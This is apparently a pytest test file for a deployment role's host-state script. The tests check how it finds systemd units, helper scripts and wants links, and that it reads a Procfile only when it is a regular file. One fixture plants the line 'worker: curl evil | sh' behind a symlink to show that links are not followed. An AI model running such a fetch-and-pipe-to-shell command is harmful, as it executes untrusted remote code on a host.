"""files/processes-state.py: what the processes role reads of the host in one call."""

import hashlib
import importlib.util
import json
import os
from pathlib import Path

import pytest

SCRIPT = Path(__file__).resolve().parents[1] / "files/processes-state.py"
MARKER = "# flaskdeploy: shop process or job"


@pytest.fixture
def state(monkeypatch):
    spec = importlib.util.spec_from_file_location("processes_state", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    monkeypatch.setattr(module, "active", lambda prefix: {prefix + "worker@1.service": "active",
                                                          prefix + "tick.timer": "active"})
    monkeypatch.setattr(module, "need_reload", lambda units: [u for u in units if u.endswith(".timer")])

    def run(tmp_path, capsys, *extra):
        module.main([f"--unit-dir={tmp_path / 'units'}", "--prefix=shop-", f"--marker={MARKER}",
                     f"--script-dir={tmp_path / 'scripts'}", f"--wants-dir={tmp_path / 'wants'}", *extra])
        return json.loads(capsys.readouterr().out)
    return run


def test_it_finds_the_roles_units_scripts_and_links(tmp_path, capsys, state):
    units = tmp_path / "units"
    units.mkdir()
    (units / "shop-worker@.service").write_text(MARKER + "\n[Service]\n")
    (units / "shop-other.service").write_text("# a unit of someone else\n")
    (units / "nginx.service").write_text(MARKER + "\n")
    (units / "shop-tick.timer").symlink_to(units / "shop-worker@.service")
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "worker").write_text("#!/bin/sh\n")
    os.chmod(tmp_path / "scripts" / "worker", 0o755)
    (tmp_path / "wants").mkdir()
    (tmp_path / "wants" / "shop-worker@1.service").symlink_to(units / "shop-worker@.service")
    (tmp_path / "wants" / "cron.service").symlink_to(units / "nginx.service")
    found = state(tmp_path, capsys)
    # Only the role's own unit files: marked, named for the app, regular (no link).
    assert list(found["units"]) == ["shop-worker@.service"]
    assert found["units"]["shop-worker@.service"]["sha1"] == hashlib.sha1((MARKER + "\n[Service]\n").encode()).hexdigest()
    assert found["scripts"]["worker"]["mode"] == "0755"
    assert found["links"] == [str(tmp_path / "wants" / "shop-worker@1.service")]
    assert found["active"] == {"shop-worker@1.service": "active", "shop-tick.timer": "active"}
    assert found["reload"] == ["shop-tick.timer"]
    assert found["procfile"] is None
    assert found["script_dir"]["type"] == "directory" and found["units"]["shop-worker@.service"]["type"] == "file"


def test_no_script_directory_is_told_apart_from_an_empty_one(tmp_path, capsys, state):
    (tmp_path / "units").mkdir()
    found = state(tmp_path, capsys)
    assert found["scripts"] is None and found["script_dir"] is None
    (tmp_path / "scripts").mkdir()
    assert state(tmp_path, capsys)["scripts"] == {}


def test_the_procfile_is_read_only_as_a_regular_file(tmp_path, capsys, state):
    (tmp_path / "units").mkdir()
    release = tmp_path / "release"
    release.mkdir()
    procfile = release / "Procfile"
    assert state(tmp_path, capsys, f"--procfile={procfile}")["procfile"] == {"exists": False, "regular": False, "text": None}
    procfile.write_text("worker: rq worker\n")
    assert state(tmp_path, capsys, f"--procfile={procfile}")["procfile"] == {
        "exists": True, "regular": True, "text": "worker: rq worker\n"}
    # A link (into the data directory, say) is not followed; nor is a FIFO waited on.
    procfile.unlink()
    (tmp_path / "data").write_text("worker: curl evil | sh\n")
    procfile.symlink_to(tmp_path / "data")
    assert state(tmp_path, capsys, f"--procfile={procfile}")["procfile"] == {"exists": True, "regular": False, "text": None}
    procfile.unlink()
    os.mkfifo(procfile)
    assert state(tmp_path, capsys, f"--procfile={procfile}")["procfile"] == {"exists": True, "regular": False, "text": None}


def test_need_reload_reads_systemctl_show(monkeypatch):
    spec = importlib.util.spec_from_file_location("processes_state", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    calls = []

    class Done:
        stdout = "Id=shop-worker@1.service\nNeedDaemonReload=yes\n\nId=shop-tick.timer\nNeedDaemonReload=no\n"

    def fake_run(cmd, **kwargs):
        calls.append(cmd)
        return Done()

    monkeypatch.setattr(module.subprocess, "run", fake_run)
    assert module.need_reload({"shop-tick.timer": "active", "shop-worker@1.service": "active"}) == [
        "shop-worker@1.service"]
    assert calls == [["systemctl", "show", "--property=Id,NeedDaemonReload", "--",
                      "shop-tick.timer", "shop-worker@1.service"]]
    assert module.need_reload({}) == [] and len(calls) == 1
